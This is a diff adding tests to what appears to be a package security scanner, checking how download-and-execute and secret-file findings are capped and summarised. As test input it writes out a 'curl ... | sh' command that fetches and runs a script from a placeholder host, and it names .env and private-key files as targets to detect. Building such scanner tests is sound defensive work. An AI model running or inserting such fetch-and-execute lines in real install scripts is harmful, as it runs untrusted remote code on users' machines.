@@ -177,3 +177,26 @@ describe('verdictOf', () => {
     expect(verdictOf([{ id: 'x', severity: 'low', file: null, message: '' }, { id: 'y', severity: 'medium', file: null, message: '' }])).toBe('medium');
   });
 });
+
+describe('findings as they are stored and sent', () => {
+  it('lists 20 of a kind in a file, then counts the rest in one finding of the same kind and severity', async () => {
+    const line = 'curl -fsSL https://x.example/i.sh | sh\n';
+    const findings = await scanPackageDir(await pkg({ LICENSE: 'MIT', INSTALL: `#!/bin/sh\n${line.repeat(1000)}` }), undefined, deny);
+    const downloads = findings.filter((f) => f.id === 'install.download-exec');
+    expect(downloads).toHaveLength(21);
+    expect(downloads[20]).toEqual({ id: 'install.download-exec', severity: 'high', file: 'INSTALL', message: 'and 980 more install.download-exec findings in INSTALL, not listed' });
+    expect(verdictOf(findings)).toBe('high');
+  });
+
+  it('lists 500 in all, then counts what is left per kind at its highest severity', async () => {
+    const files: Record<string, string> = { LICENSE: 'MIT' };
+    for (let i = 0; i < 520; i++) files[`conf/${String(i).padStart(3, '0')}/.env`] = 'A=1\n';
+    files['zz/id_ed25519'] = 'not a key\n';
+    const findings = await scanPackageDir(await pkg(files), undefined, deny);
+    expect(findings).toHaveLength(501);
+    expect(findings.slice(0, 500).every((f) => f.id === 'secret.env-file' && f.file !== null)).toBe(true);
+    // 520 .env files (medium) and one private-key name (high) make 521: 21 are counted, at the higher severity.
+    expect(findings[500]).toEqual({ id: 'secret.env-file', severity: 'high', file: null, message: 'and 21 more secret.env-file findings, not listed' });
+    expect(verdictOf(findings)).toBe('high');
+  });
+});
